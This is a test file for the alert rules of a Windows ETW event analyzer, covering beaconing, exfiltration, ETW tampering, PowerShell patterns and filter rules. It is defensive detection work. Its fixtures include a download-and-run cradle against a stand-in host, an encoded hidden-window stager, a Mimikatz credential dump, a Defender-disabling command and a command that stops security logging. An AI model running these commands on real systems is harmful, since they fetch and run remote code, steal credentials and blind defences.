// The alert rules on built event streams: beaconing (periodic with jitter vs Poisson), exfiltration at
// its threshold and window, ETW tampering, PowerShell patterns (multi-part script blocks, module
// logging, -EncodedCommand command lines) and user filter-expression rules.
import { describe, expect, it } from 'vitest';
import { Analyzer, beaconScore, parseRuleFile, type RuleFile } from '../../../electron/core/summary/index';
import { rng, SECOND, Stream } from './builders';

const C2: [number, number, number, number] = [198, 51, 100, 7];

function rules(json: object): RuleFile {
  const parsed = parseRuleFile(JSON.stringify(json));
  if (!parsed.ok) throw new Error(JSON.stringify(parsed.errors));
  return parsed.value;
}

/** `contacts` HTTP-like exchanges (3 sends + 1 receive within 0.3 s) at the given start times. */
function beaconStream(startTimes: number[]): Stream {
  const s = new Stream();
  s.classicProcess(0, 3, 500, 4, 'implant.exe', 'implant.exe');
  for (const t of startTimes) {
    s.tcp(t, 'connect', 500, 0, C2, 443);
    s.tcp(t + 0.05 * SECOND, 'send', 500, 517, C2, 443);
    s.tcp(t + 0.1 * SECOND, 'send', 500, 200, C2, 443);
    s.tcp(t + 0.2 * SECOND, 'recv', 500, 4000, C2, 443);
    s.tcp(t + 0.3 * SECOND, 'send', 500, 31, C2, 443);
  }
  return s;
}

function times(count: number, next: () => number): number[] {
  const out: number[] = [];
  let t = 10 * SECOND;
  for (let i = 0; i < count; i++) {
    out.push(Math.round(t));
    t += next() * SECOND;
  }
  return out;
}

describe('beaconing', () => {
  it('scores a 15 s timer with ±20 % jitter high and alerts with the period', () => {
    const random = rng(7);
    const s = beaconStream(times(40, () => 15 * (0.8 + 0.4 * random())));
    const a = new Analyzer();
    s.feed(a);
    const endpoint = a.summary(a.processOf(500, 20 * SECOND)!.key)?.network[0];
    expect(endpoint).toMatchObject({
      protocol: 'TCP',
      remoteAddress: '198.51.100.7',
      remotePort: 443,
      connects: 40,
      sends: 120,
      receives: 40,
    });
    expect(endpoint?.beacon?.contacts).toBe(40);
    expect(endpoint?.beacon?.score).toBeGreaterThan(0.75);
    expect(endpoint?.beacon?.medianIntervalSeconds).toBeGreaterThan(13.5);
    expect(endpoint?.beacon?.medianIntervalSeconds).toBeLessThan(16.5);
    const alerts = a.alerts().filter((x) => x.ruleId === 'beaconing');
    expect(alerts).toHaveLength(1);
    expect(alerts[0]).toMatchObject({
      severity: 'medium',
      processName: 'implant.exe',
      details: { endpoint: 'TCP 198.51.100.7:443', contacts: 16 },
    });
    // Evidence: the first event of each of the 16 contacts (the connects).
    expect(alerts[0]?.evidence).toHaveLength(16);
    for (const seq of alerts[0]!.evidence) expect(s.events[seq]?.[1].eventName).toBe('KNetEvt_ConnectIPV4');
  });

  it('scores random (exponential) intervals low and does not alert', () => {
    const random = rng(11);
    const s = beaconStream(times(40, () => -15 * Math.log(1 - random())));
    const a = new Analyzer();
    s.feed(a);
    const endpoint = a.summary(a.processOf(500, 20 * SECOND)!.key)?.network[0];
    expect(endpoint?.beacon?.contacts).toBeGreaterThanOrEqual(30); // intervals under the 2 s gap merge
    expect(endpoint?.beacon?.score).toBeLessThan(0.35);
    expect(a.alerts().filter((x) => x.ruleId === 'beaconing')).toEqual([]);
  });

  it('beaconScore: exact timers score 1, fewer than 3 intervals give no score', () => {
    expect(beaconScore([60, 60, 60, 60])?.score).toBe(1);
    expect(beaconScore([60, 60])).toBeNull();
    const r = beaconScore([10, 12, 14, 16, 18]);
    expect(r?.median).toBe(14);
    expect(r?.jitter).toBeCloseTo((1.4826 * 2) / 14, 10);
  });
});

describe('exfiltration', () => {
  const MiB = 1024 * 1024;
  // (Uploads at a fixed pace also look like beaconing: only the exfiltration alerts matter here.)
  const exfil = (a: Analyzer) => a.alerts().filter((x) => x.ruleId === 'exfiltration');

  function uploads(sizes: number[], spacing = 60 * SECOND): Stream {
    const s = new Stream();
    s.classicProcess(0, 3, 700, 4, 'rclone.exe', 'rclone.exe copy C:\\data remote:');
    sizes.forEach((size, i) => s.tcp((i + 1) * spacing, 'send', 700, size, [203, 0, 113, 9], 443));
    return s;
  }

  it('stays silent just under 100 MiB in 24 h and alerts when the threshold is reached, with evidence', () => {
    const under = [...Array<number>(99).fill(MiB), MiB - 1];
    const quiet = new Analyzer();
    uploads(under).feed(quiet);
    expect(exfil(quiet)).toEqual([]);
    expect(quiet.summary(quiet.processOf(700, 3600 * SECOND)!.key)?.network[0]?.bytesSent).toBe(
      100 * MiB - 1,
    );

    const s = uploads([...under, 1]);
    const a = new Analyzer();
    s.feed(a);
    const alerts = exfil(a);
    expect(alerts).toHaveLength(1);
    expect(alerts[0]).toMatchObject({
      ruleId: 'exfiltration',
      severity: 'high',
      processName: 'rclone.exe',
      pid: 700,
      ticks: 101 * 60 * SECOND,
      details: {
        bytesInWindow: 100 * MiB,
        thresholdBytes: 100 * MiB,
        windowSeconds: 86400,
        endpoint: 'TCP 203.0.113.9:443',
      },
    });
    expect(alerts[0]?.summary).toContain('sent 100.0 MiB to TCP 203.0.113.9:443');
    // Evidence: the 32 most recent sends, ending with the one that crossed the threshold.
    const last = s.events.length - 1;
    expect(alerts[0]?.evidence).toEqual(Array.from({ length: 32 }, (_, i) => last - 31 + i));
  });

  it('counts only the window: the same bytes spread over more than the window do not alert', () => {
    const a = new Analyzer();
    uploads(Array<number>(101).fill(MiB), 900 * SECOND).feed(a); // one send per 15 min: 25 h
    expect(exfil(a)).toEqual([]);
    const b = new Analyzer({
      rules: rules({
        version: 1,
        rules: [{ id: 'exfiltration', type: 'exfiltration', bytes: 10 * MiB, windowSeconds: 3600 }],
      }),
    });
    uploads(Array<number>(20).fill(MiB), 900 * SECOND).feed(b); // 4 MiB per hour
    expect(exfil(b)).toEqual([]);
    const c = new Analyzer({
      rules: rules({
        version: 1,
        rules: [{ id: 'exfiltration', type: 'exfiltration', bytes: 10 * MiB, windowSeconds: 3600 }],
      }),
    });
    uploads(Array<number>(20).fill(MiB), 300 * SECOND).feed(c); // 12 MiB per hour
    expect(exfil(c)).toHaveLength(1);
  });
});

describe('ETW tampering', () => {
  it('alerts on a stopped session and a disabled provider, with the process and the event', () => {
    const s = new Stream();
    s.classicProcess(0, 3, 66, 4, 'logman.exe', 'logman stop EventLog-Security -ets');
    const stop = s.etwSessionStop(1 * SECOND, 66, 'EventLog-Security');
    const disable = s.etwProviderDisable(
      2 * SECOND,
      66,
      'DefenderApiLogger',
      '{f4e1897c-bb5d-5668-f1d8-040f4d8dd344}',
    );
    const a = new Analyzer();
    s.feed(a);
    expect(a.alerts().map((x) => [x.ruleId, x.summary, x.evidence])).toEqual([
      ['etw-tampering', "logman.exe (pid 66) stopped ETW session 'EventLog-Security'", [stop]],
      [
        'etw-tampering',
        "logman.exe (pid 66) disabled provider {f4e1897c-bb5d-5668-f1d8-040f4d8dd344} in ETW session 'DefenderApiLogger'",
        [disable],
      ],
    ]);
  });

  it('can watch only some sessions', () => {
    const s = new Stream();
    s.etwSessionStop(1 * SECOND, 66, 'MyPerfSession');
    s.etwSessionStop(2 * SECOND, 66, 'EventLog-System');
    const a = new Analyzer({
      rules: rules({
        version: 1,
        builtins: false,
        rules: [{ id: 't', type: 'etw-tampering', sessions: { regex: '^EventLog-', flags: 'i' } }],
      }),
    });
    s.feed(a);
    expect(a.alerts().map((x) => x.details.session)).toEqual(['EventLog-System']);
  });
});

describe('PowerShell', () => {
  it('assembles a script block from its parts and matches the suspicious patterns across part boundaries', () => {
    const s = new Stream();
    s.classicProcess(0, 3, 800, 4, 'powershell.exe', 'powershell.exe');
    const id = '{5b1a4c1e-0000-4000-8000-000000000001}';
    const p1 = s.scriptBlock(1 * SECOND, 800, id, 1, 3, "$u = 'http://198.51.100.7/a'; IE");
    const p2 = s.scriptBlock(1 * SECOND + 1, 800, id, 2, 3, 'X (New-Object Net.Web');
    const a1 = new Analyzer();
    s.feed(a1);
    expect(a1.alerts()).toEqual([]); // incomplete: nothing to match yet
    const p3 = s.scriptBlock(1 * SECOND + 2, 800, id, 3, 3, 'Client).DownloadString($u)');
    s.scriptBlock(
      2 * SECOND,
      800,
      '{5b1a4c1e-0000-4000-8000-000000000002}',
      1,
      1,
      'Get-ChildItem C:\\Users | Sort-Object Length',
    );
    const a = new Analyzer();
    s.feed(a);
    const alerts = a.alerts();
    expect(alerts).toHaveLength(1);
    expect(alerts[0]).toMatchObject({
      ruleId: 'powershell-suspicious',
      processName: 'powershell.exe',
      evidence: [p1, p2, p3],
    });
    expect(alerts[0]?.details.patterns).toEqual(['Download cradle', 'Invoke-Expression', 'Net.WebClient']);
    const blocks = a.summary(a.processOf(800, SECOND)!.key)?.powershell.scriptBlocks;
    expect(blocks?.map((b) => [b.text, b.parts, b.complete])).toEqual([
      ["$u = 'http://198.51.100.7/a'; IEX (New-Object Net.WebClient).DownloadString($u)", 3, true],
      ['Get-ChildItem C:\\Users | Sort-Object Length', 1, true],
    ]);
  });

  it('reports blocks still missing parts at finish() as partial and checks them', () => {
    const s = new Stream();
    s.scriptBlock(1 * SECOND, 801, 'b1', 1, 2, 'Invoke-Mimikatz -DumpCreds');
    const a = new Analyzer();
    s.feed(a);
    a.finish();
    expect(a.alerts().map((x) => x.details.patterns)).toEqual([['Invoke-Mimikatz']]);
    expect(a.summary(a.processOf(801, SECOND)!.key)?.powershell.scriptBlocks[0]).toMatchObject({
      complete: false,
      parts: 1,
      total: 2,
    });
  });

  it('matches module logging (4103) command invocations', () => {
    const s = new Stream();
    const seq = s.psCommand(
      1 * SECOND,
      802,
      'Set-MpPreference',
      'CommandInvocation(Set-MpPreference): "Set-MpPreference"\r\nParameterBinding(Set-MpPreference): name="DisableRealtimeMonitoring"; value="True"',
    );
    const a = new Analyzer();
    s.feed(a);
    expect(a.alerts().map((x) => [x.details.source, x.details.patterns, x.evidence])).toEqual([
      ['command', ['Defender tampering'], [seq]],
    ]);
    expect(a.summary(a.processOf(802, SECOND)!.key)?.powershell.commands).toMatchObject([
      { name: 'Set-MpPreference', count: 1 },
    ]);
  });

  it('decodes -EncodedCommand from a process command line and checks the script', () => {
    const script = "IEX (iwr 'http://198.51.100.7/stage2.ps1')";
    const b64 = Buffer.from(script, 'utf16le').toString('base64');
    const s = new Stream();
    const seq = s.classicProcess(
      1 * SECOND,
      1,
      900,
      800,
      'powershell.exe',
      `powershell.exe -NoP -W Hidden -enc ${b64}`,
      800,
    );
    const a = new Analyzer();
    s.feed(a);
    const summary = a.summary(a.processOf(900, 2 * SECOND)!.key);
    expect(summary?.powershell.encodedCommands).toEqual([
      { commandLine: `powershell.exe -NoP -W Hidden -enc ${b64}`, decoded: script, ticks: SECOND, seq },
    ]);
    expect(a.alerts().map((x) => [x.details.source, x.details.patterns, x.evidence])).toEqual([
      ['cmdline', ['EncodedCommand', 'Hidden window'], [seq]],
      ['encoded', ['Invoke-Expression'], [seq]],
    ]);
  });
});

describe('filter-expression rules', () => {
  it('raise an alert per matching event with the filled-in summary', () => {
    const s = new Stream();
    s.classicProcess(0, 3, 10, 4, 'evil.exe', 'evil.exe');
    s.imageLoad(1 * SECOND, 10, '\\Device\\HarddiskVolume2\\Windows\\System32\\vaultcli.dll');
    const hit = s.imageLoad(
      2 * SECOND,
      10,
      '\\Device\\HarddiskVolume2\\Users\\x\\AppData\\Local\\Temp\\payload.dll',
    );
    s.imageLoad(3 * SECOND, 10, '\\Device\\HarddiskVolume2\\Windows\\System32\\ntdll.dll');
    const file = rules({
      version: 1,
      builtins: false,
      rules: [
        {
          id: 'dll-from-temp',
          type: 'filter',
          severity: 'high',
          title: 'DLL loaded from a temp folder',
          filter:
            'event == "ImageLoad" and props.ImageName matches /\\\\temp\\\\/i and process.name == "evil.exe"',
          summary: '{process} loaded {props.ImageName}',
        },
      ],
    });
    const a = new Analyzer({ rules: file });
    s.feed(a);
    expect(a.alerts().map((x) => [x.ruleId, x.severity, x.title, x.summary, x.evidence])).toEqual([
      [
        'dll-from-temp',
        'high',
        'DLL loaded from a temp folder',
        'evil.exe (pid 10) loaded \\Device\\HarddiskVolume2\\Users\\x\\AppData\\Local\\Temp\\payload.dll',
        [hit],
      ],
    ]);
  });

  it('match provider names, which the header predicate learns from the decoded events', () => {
    const s = new Stream();
    s.etwSessionStop(1 * SECOND, 66, 'S1');
    const hit = s.imageLoad(2 * SECOND, 10, '\\x\\a.dll');
    const file = rules({
      version: 1,
      builtins: false,
      rules: [
        {
          id: 'by-name',
          type: 'filter',
          filter: 'provider == "Microsoft-Windows-Kernel-Process" and id == 5',
        },
        { id: 'by-guid', type: 'filter', filter: 'provider == "{22FB2CD6-0E7B-422B-A0C7-2FAD1FD0E716}"' },
        { id: 'other', type: 'filter', filter: 'provider == "Microsoft-Windows-DNS-Client"' },
      ],
    });
    const a = new Analyzer({ rules: file });
    s.feed(a);
    expect(a.alerts().map((x) => [x.ruleId, x.evidence])).toEqual([
      ['by-name', [hit]],
      ['by-guid', [hit]],
    ]);
  });

  it('stop at maxAlerts and count what they suppressed', () => {
    const s = new Stream();
    for (let i = 0; i < 5; i++) s.imageLoad(i * SECOND, 10, `\\x\\${i}.dll`);
    const a = new Analyzer({
      rules: rules({
        version: 1,
        builtins: false,
        rules: [{ id: 'all', type: 'filter', filter: 'event == "ImageLoad"', maxAlerts: 2 }],
      }),
    });
    s.feed(a);
    expect(a.alerts()).toHaveLength(2);
    expect(a.suppressedAlerts()).toEqual({ all: 3 });
  });

  it('"disable" switches built-in rules off', () => {
    const s = new Stream();
    s.etwSessionStop(1 * SECOND, 66, 'EventLog-Security');
    const a = new Analyzer({ rules: rules({ version: 1, disable: ['etw-tampering'], rules: [] }) });
    s.feed(a);
    expect(a.alerts()).toEqual([]);
  });
});
